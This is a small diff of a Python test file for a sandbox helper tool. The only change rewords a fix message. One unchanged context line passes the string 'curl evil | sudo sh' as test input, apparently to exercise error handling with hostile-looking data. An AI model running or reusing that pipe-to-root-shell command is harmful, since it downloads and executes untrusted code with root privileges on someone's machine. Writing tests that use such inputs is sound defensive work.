@@ -105,6 +105,6 @@ def test_an_error_comes_out_of_the_namespaces_with_a_fix_of_ours() -> None:
         helper_program.raise_error({"error": ["sandbox-kernel", "seen", "curl evil | sudo sh"]})
     assert (caught.value.code, caught.value.fix) == (
         "sandbox-build",
-        "aboard sandbox down    # then make it anew: aboard sandbox up",
+        "aboard sandbox down    # then create it again: aboard sandbox up",
     )
     helper_program.raise_error({"host": "n1", "pid": 7})
